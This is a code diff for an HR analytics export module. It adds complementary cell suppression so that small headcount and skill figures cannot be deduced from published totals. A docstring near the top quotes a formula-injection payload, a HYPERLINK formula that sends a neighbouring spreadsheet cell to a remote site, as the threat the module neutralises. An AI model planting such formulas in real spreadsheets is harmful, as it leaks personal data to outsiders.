@@ -7,8 +7,12 @@ neutralise formula injection: a label read from an HR extract (a direction, a m�
 (``=HYPERLINK("http://…?leak="&B2,"DRH")`` sends a neighbouring cell to a remote site). See :func:`neutralise`;
 ``tests/test_export_sanitise.py`` fails when a module writes a spreadsheet file any other way.
 
-Every table of the skills exports leaves through ``workforce.privacy.suppress_small``: a figure resting on fewer
-than 5 agents is blanked and flagged in the column « Masqué (moins de 5 agents) ». Nominative candidate lists
+Every table leaves through :func:`workforce.privacy.protect` (statistical secrecy): a figure resting on fewer
+than 5 agents is blanked, with the complementary cells of each published total and the figures derived from the
+hidden ones (criticité, first year of shortage, suggested action, quantiles, payroll decomposition), and flagged
+in the column « Masqué (moins de 5 agents) » (or ``suppressed``). The projection's levels (cells, catégorie,
+direction, métier, famille, payroll by direction) share one pattern (:func:`projection_secrecy`), so no table
+gives back what another hides. Training managers are entitled to exact skill supply: ``exact_skills=True``. Nominative candidate lists
 (pseudonymised agent identifiers) are written only when asked for explicitly, and each such export is recorded
 in the audit log before the function returns; if the record cannot be written the file is deleted.
 
@@ -32,7 +36,7 @@ import numpy as np
 import pandas as pd
 
 from workforce.labels import ACTION_LABELS, CLASS_LABELS
-from workforce.privacy import FORMULA_TRIGGERS, MIN_CELL, suppress_small
+from workforce.privacy import FORMULA_TRIGGERS, MIN_CELL, linked_mask, protect
 from workforce.skills import ALL_DIRECTIONS, SkillAnalysis
 
 FORMATS = ("xlsx", "csv")
@@ -58,7 +62,9 @@ GAP_COLUMNS = {  # French header -> definition (the readme sheet lists them)
     "Candidats internes": "Agents de la direction qui ne la détiennent pas encore mais l'ont à un niveau inférieur "
                           "ou occupent un métier proche d'un métier qui l'exige.",
     "Action suggérée": "Former (assez de candidats internes), Former et recruter, Recruter, ou Aucune.",
-    SUPPRESSED: "Oui quand une cellule repose sur moins de 5 agents : ses chiffres sont masqués.",
+    SUPPRESSED: "Oui quand une cellule repose sur moins de 5 agents, ou quand elle est masquée pour qu'une autre ne "
+                "se déduise pas du total toutes directions : ses chiffres (offre, écart, manque, criticité, urgence, "
+                "action) sont masqués.",
 }
 
 PROFILE_COLUMNS = {
@@ -166,14 +172,39 @@ def _yes_no(mask) -> np.ndarray:
     return np.where(np.asarray(mask, dtype=bool), "oui", "non")
 
 
+GAP_FIGURES = ["supply_fte", "gap_fte", "shortage_fte", "holders"]  # resting on the agents who hold the skill
+GAP_DERIVED = ["criticality", "urgency", "action"]  # computed from them: criticité = breadth x shortage / demand
+
+
+def _protected_gaps(analysis: SkillAnalysis, all_directions: bool, exact_skills: bool) -> pd.DataFrame:
+    """The balance of every year and direction (or the employer's rows), hidden cells blanked.
+
+    Computed on the whole frame before any filter, so that the page, the CSV of one year and the XLSX hide the
+    same cells. The directions of a (year, skill) add up to the « Toutes directions » row: a lone hidden
+    direction would be that row minus the others, so each (year, skill) hides none or at least two (the smallest
+    published direction as complement). Criticité, urgency and action are blanked with them: criticité =
+    breadth x (1 - supply / demand) gave the supply back from the published demand and number of métiers.
+    ``exact_skills``: the figures as they are, for the roles entitled to agents' skills data."""
+    g = analysis.gaps_total if all_directions else analysis.gaps
+    margins = [] if all_directions else [("year", "skill_code")]
+    sup = protect(g, "holders", GAP_FIGURES, margins=margins, derived_cols=GAP_DERIVED, exact=exact_skills)
+    cand = protect(g, "candidates", margins=margins, derived_cols=["action"], exact=exact_skills)
+    sup["candidates"] = cand["candidates"]
+    sup["action"] = sup["action"].where(~cand["suppressed"].to_numpy(), None)
+    sup["suppressed"] = sup["suppressed"].to_numpy() | cand["suppressed"].to_numpy()
+    return sup
+
+
 def gaps_table(analysis: SkillAnalysis, year: int | None = None, direction: str | None = None,
-               all_directions: bool = False) -> pd.DataFrame:
-    """One row per (skill, direction, year), French headers, small cells suppressed.
+               all_directions: bool = False, *, exact_skills: bool = False) -> pd.DataFrame:
+    """One row per (skill, direction, year), French headers, small cells and their complements suppressed
+    (:func:`_protected_gaps`).
 
     ``all_directions``: the whole employer's rows (« Toutes directions ») instead of one per direction.
+    ``exact_skills``: no suppression of skill supply (training managers, entitled to agents' skills data).
     Raises ``ExportError`` for a year outside the projection or an unknown direction.
     """
-    g = analysis.gaps_total if all_directions else analysis.gaps
+    g = _protected_gaps(analysis, all_directions, exact_skills)
     if year is not None:
         if year not in set(analysis.years.tolist()):
             raise ExportError(f"année {year} hors de la projection ({analysis.years.min()}-{analysis.years.max()})")
@@ -183,25 +214,22 @@ def gaps_table(analysis: SkillAnalysis, year: int | None = None, direction: str 
         if direction not in known:
             raise ExportError(f"direction {direction!r} inconnue ; directions : {', '.join(known)}")
         g = g[g["direction"] == direction]
-    # the figures resting on agents are blanked below 5 agents; the demand (posts) stays
-    sup = suppress_small(g, "holders", ["supply_fte", "gap_fte", "shortage_fte"])
-    cand = suppress_small(g, "candidates")
     out = pd.DataFrame({
         "Année": g["year"].to_numpy(),
         "Direction": g["direction"].replace({ALL_DIRECTIONS: ALL_DIRECTIONS_LABEL}).to_numpy(),
         "Code compétence": g["skill_code"].to_numpy(),
         "Compétence": g["skill_code"].map(analysis.skill_labels).to_numpy(),
-        "Offre (ETP)": _round(sup["supply_fte"]).to_numpy(),
-        "Besoin (ETP)": _round(g["demand_fte"]).to_numpy(),
-        "Écart (ETP)": _round(sup["gap_fte"]).to_numpy(),
-        "Manque (ETP)": _round(sup["shortage_fte"]).to_numpy(),
-        "Première année de manque": g["urgency"].to_numpy(),
-        "Criticité": g["criticality"].round(2).to_numpy(),
+        "Offre (ETP)": _round(g["supply_fte"]).to_numpy(),
+        "Besoin (ETP)": _round(g["demand_fte"]).to_numpy(),  # posts, not agents: always published
+        "Écart (ETP)": _round(g["gap_fte"]).to_numpy(),
+        "Manque (ETP)": _round(g["shortage_fte"]).to_numpy(),
+        "Première année de manque": g["urgency"].astype(object).where(g["urgency"].notna(), None).to_numpy(),
+        "Criticité": _round(g["criticality"], 2).to_numpy(),
         "Métiers concernés": g["metiers_requiring"].to_numpy(),
-        "Agents détenteurs": _round(sup["holders"], 0).to_numpy(),
-        "Candidats internes": _round(cand["candidates"], 0).to_numpy(),
+        "Agents détenteurs": _round(g["holders"], 0).to_numpy(),
+        "Candidats internes": _round(g["candidates"], 0).to_numpy(),
         "Action suggérée": g["action"].map(ACTION_LABELS).to_numpy(),
-        SUPPRESSED: _yes_no(sup["suppressed"].to_numpy() | cand["suppressed"].to_numpy()),
+        SUPPRESSED: _yes_no(g["suppressed"].to_numpy()),
     })
     return out.reset_index(drop=True)
 
@@ -237,7 +265,7 @@ def candidates_table(analysis: SkillAnalysis) -> pd.DataFrame:
     c = analysis.candidates
     agg = c.groupby(["metier_code", "direction", "target"], as_index=False).agg(
         n=("agent_id", "size"), coverage=("coverage", "mean"))
-    sup = suppress_small(agg, "n", ["coverage"])
+    sup = protect(agg, "n", margins=[], derived_cols=["coverage"])  # no total of these counts is published
     return pd.DataFrame({
         "Métier d'origine": agg["metier_code"], "Direction": agg["direction"], "Métier cible": agg["target"],
         "Candidats": _round(sup["n"], 0), "Couverture moyenne (%)": _round(sup["coverage"].astype("Float64") * 100, 0),
@@ -446,15 +474,18 @@ def _slug(text: str) -> str:
 
 
 def export_gaps(analysis: SkillAnalysis, path: str | Path, fmt: str = "xlsx", *, year: int | None = None,
-                direction: str | None = None, meta: ExportMeta | None = None) -> ExportResult:
-    """Write the skill-gap list (and the métiers' transformation profile) for the training managers."""
+                direction: str | None = None, meta: ExportMeta | None = None,
+                exact_skills: bool = False) -> ExportResult:
+    """Write the skill-gap list (and the métiers' transformation profile) for the training managers.
+
+    ``exact_skills``: skill supply unsuppressed, for a role entitled to agents' skills data (the caller audits)."""
     fmt = _check_format(fmt)
     meta = meta or ExportMeta()
-    gaps = gaps_table(analysis, year, direction)
+    gaps = gaps_table(analysis, year, direction, exact_skills=exact_skills)
     tables = {"Écarts de compétences": gaps}
     sheets = {"Écarts de compétences": GAP_COLUMNS}
     if direction is None:  # the whole employer, where small cells of the directions pool together
-        tables[TOTAL_SHEET] = gaps_table(analysis, year, all_directions=True)
+        tables[TOTAL_SHEET] = gaps_table(analysis, year, all_directions=True, exact_skills=exact_skills)
         sheets[TOTAL_SHEET] = {"": "Mêmes colonnes, toutes directions confondues."}
     tables["Transformation des métiers"] = profile_table(analysis)
     sheets["Transformation des métiers"] = PROFILE_COLUMNS
@@ -506,12 +537,122 @@ def export_passerelles(analysis: SkillAnalysis, path: str | Path, fmt: str = "xl
 # ------------------------------------------------------------------------------------------ projection
 
 
+_SECRECY_CACHE: dict = {}  # id(result) -> (result, pattern): a few recent projections, patterns cost a solve
+
+
+def projection_secrecy(result) -> dict:
+    """The suppression pattern shared by every table of a projection: ``{"cells": bool (Y, C*M*D), "categorie",
+    "direction", "metier", "famille": bool (Y, G)}`` (:func:`workforce.privacy.linked_mask`), from the expected
+    headcount rounded. The cells add up to their catégorie, direction and métier, the métiers to their famille,
+    each table to the employer's total printed by `workforce project`."""
+    hit = _SECRECY_CACHE.get(id(result))
+    if hit is not None and hit[0] is result:
+        return hit[1]
+    from workforce.projection import HEADCOUNT
+    from workforce.projection.prepared import level_maps
+
+    maps = level_maps(result.prepared)
+    heads = result.values[HEADCOUNT].reshape(len(result.years), -1)
+    levels = {name: maps[name][0] for name in ("categorie", "direction", "metier", "famille")}
+    fam_labels = maps["famille"][1]
+    metier_famille = np.searchsorted(fam_labels.astype(str), result.prepared.familles.astype(str))
+    pattern = linked_mask(heads, levels, {("metier", "famille"): metier_famille})
+    pattern["labels"] = {name: maps[name][1] for name in levels}
+    while len(_SECRECY_CACHE) >= 4:
+        _SECRECY_CACHE.pop(next(iter(_SECRECY_CACHE)))
+    _SECRECY_CACHE[id(result)] = (result, pattern)
+    return pattern
+
+
+def projection_hidden(result, by: str | None) -> pd.DataFrame:
+    """``year, <keys>, suppressed`` for the rows of a projection table at level ``by`` (None: the cells
+    ``year, metier_code, direction, categorie``), from :func:`projection_secrecy`."""
+    from workforce.projection import CATEGORIE, CATEGORY_CODES, DIRECTION, METIER, YEAR
+
+    years = np.asarray(result.years)
+    if by == "total":
+        return pd.DataFrame({YEAR: years, "total": "total", "suppressed": False})
+    pattern = projection_secrecy(result)
+    if by is not None:
+        labels = np.asarray(pattern["labels"][by]).astype(str)
+        hidden = pattern[by]
+        return pd.DataFrame({YEAR: np.repeat(years, len(labels)), by: np.tile(labels, len(years)),
+                             "suppressed": hidden.ravel()})
+    C, M, D = result.prepared.shape
+    c, m, d = np.indices((C, M, D)).reshape(3, -1)
+    cells = pattern["cells"]
+    return pd.DataFrame({YEAR: np.repeat(years, C * M * D),
+                         METIER: np.tile(np.asarray(result.prepared.metiers).astype(str)[m], len(years)),
+                         DIRECTION: np.tile(np.asarray(result.prepared.directions).astype(str)[d], len(years)),
+                         CATEGORIE: np.tile(np.asarray(CATEGORY_CODES).astype(str)[c], len(years)),
+                         "suppressed": cells.ravel()})
+
+
+def _with_secrecy(frame: pd.DataFrame, hidden: pd.DataFrame, keys: list[str], blank: list[str]) -> pd.DataFrame:
+    """``frame`` with the ``suppressed`` flag of ``hidden`` (joined on ``keys``) and ``blank`` columns NA there."""
+    out = frame.drop(columns=["suppressed"], errors="ignore").copy()
+    left = out[keys].astype({k: str for k in keys[1:]})
+    flag = left.merge(hidden.astype({k: str for k in keys[1:]}), on=keys, how="left")["suppressed"]
+    mask = flag.fillna(False).to_numpy(dtype=bool)
+    for col in blank:
+        if col in out.columns:
+            out[col] = out[col].astype("Float64").mask(mask)
+    out["suppressed"] = mask
+    return out
+
+
+def projection_published(result, by: str | None = None, *, wide: bool = True) -> pd.DataFrame:
+    """What may leave the tool of a projection at level ``by`` (None: the cells holding at least half an agent):
+    wide, one row per year and group and one column per indicator (``<indicator>_p10``... in Monte Carlo mode),
+    or long (``year, <by>, indicator, value[, mean, p10, p50, p90], suppressed``). Every figure of a hidden row
+    is blanked (:func:`projection_hidden`)."""
+    from workforce.projection import CATEGORIE, DIRECTION, INDICATOR, MEAN, METIER, P10, P50, P90, VALUE, YEAR
+
+    frame = result.table(0.5) if by is None else result.summary(by)
+    keys = [YEAR, METIER, DIRECTION, CATEGORIE] if by is None else [YEAR, by]
+    stats = [c for c in (VALUE, MEAN, P10, P50, P90) if c in frame.columns]
+    hidden = projection_hidden(result, by)
+    if not wide:
+        return _with_secrecy(frame, hidden, keys, stats)
+    w = frame.pivot_table(index=keys, columns=INDICATOR, values=stats, aggfunc="first", observed=True, sort=False)
+    names = [n for n in result.indicators() if (VALUE, n) in w.columns]
+    cols = {n if st == VALUE else f"{n}_{st}": w[(st, n)] for st in stats for n in names if (st, n) in w.columns}
+    w = pd.DataFrame(cols).reset_index()
+    for k in keys[1:]:
+        w[k] = w[k].astype(str)
+    out = _with_secrecy(w, hidden, keys, [c for c in w.columns if c not in keys])
+    return out.sort_values(keys, kind="stable").reset_index(drop=True)
+
+
+PAYROLL_OWN = ("payroll", "hires_cost", "exits_cost", "hires", "leavers")  # the year's own figures
+
+
+def payroll_published(result) -> pd.DataFrame:
+    """The payroll by direction and year, suppressed by the agents it covers: a direction hidden in the
+    projection that year (:func:`projection_hidden`) has every figure blanked, and the year after a hidden year
+    blanks what starts from the hidden payroll (``payroll_start``, change and its decomposition), which would
+    otherwise carry it into a published row."""
+    from workforce.projection import YEAR
+
+    pay = result.payroll("direction")
+    hidden = projection_hidden(result, "direction")
+    before = hidden.assign(**{YEAR: hidden[YEAR] + 1}).rename(columns={"suppressed": "_before"})
+    figures = [c for c in pay.columns if c not in (YEAR, "direction")]
+    out = _with_secrecy(pay, hidden, [YEAR, "direction"], figures)
+    prev = _with_secrecy(pay, before.rename(columns={"_before": "suppressed"}), [YEAR, "direction"], [])
+    carried = prev["suppressed"].to_numpy() & ~out["suppressed"].to_numpy()
+    for col in figures:
+        if col not in PAYROLL_OWN:
+            out[col] = out[col].astype("Float64").mask(carried)
+    return out
+
+
 def projection_sheets(result, by: str | None = None) -> dict[str, pd.DataFrame]:
-    """The sheets of a projection file: the published results (wide: one row per year and group, groups under
-    5 agents blanked, see ``Projection.published``), the payroll by direction and the provenance (extract,
-    model versions, code, scenario, seed), one JSON line per row."""
+    """The sheets of a projection file: the published results (wide: one row per year and group, hidden groups
+    blanked, see :func:`projection_published`), the payroll by direction (:func:`payroll_published`) and the
+    provenance (extract, model versions, code, scenario, seed), one JSON line per row."""
     prov = json.dumps(result.provenance, ensure_ascii=False, indent=2, default=str)
-    return {"projection": result.published(by, wide=True), "masse_salariale": result.payroll(),
+    return {"projection": projection_published(result, by), "masse_salariale": payroll_published(result),
             "provenance": pd.DataFrame({"provenance": prov.splitlines()})}
 
 
@@ -526,7 +667,7 @@ def export_projection(result, path: str | Path, by: str | None = None) -> list[P
     if suffix == ".xlsx":
         write_xlsx(projection_sheets(result, by), path)
         return [path]
-    write_csv(result.published(by, wide=True), path, sep=",", decimal=".", encoding="utf-8")
+    write_csv(projection_published(result, by), path, sep=",", decimal=".", encoding="utf-8")
     notice = path.with_suffix(".provenance.json")
     notice.write_text(json.dumps(result.provenance, ensure_ascii=False, indent=2, default=str), encoding="utf-8")
     return [path, notice]
